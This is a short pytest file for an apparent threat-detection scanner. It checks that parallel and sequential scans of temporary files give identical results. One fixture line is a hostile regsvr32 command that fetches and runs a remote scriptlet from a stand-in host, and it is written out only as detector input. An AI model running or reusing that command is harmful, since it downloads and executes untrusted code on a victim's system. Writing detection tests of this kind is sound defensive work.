from __future__ import annotations

from pathlib import Path

from aptcatch.capture.engine import ScanConfig
from aptcatch.capture.runner import expand_inputs, scan_paths


def test_parallel_equals_sequential(tmp_path: Path) -> None:
    for i in range(6):
        (tmp_path / f"f{i}.txt").write_text(f"file {i} http://h{i}.example-cdn.test/x")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "g.txt").write_text("regsvr32 /i:http://x.test/a.sct scrobj.dll")
    paths = expand_inputs([tmp_path])
    assert len(paths) == 7
    seq = scan_paths(paths, ScanConfig(), jobs=1)
    par = scan_paths(paths, ScanConfig(), jobs=2)
    strip = lambda r: r.model_copy(update={"duration_ms": 0.0})  # noqa: E731
    assert [strip(r) for r in seq] == [strip(r) for r in par]
    assert [r.path for r in par] == [str(p) for p in paths]
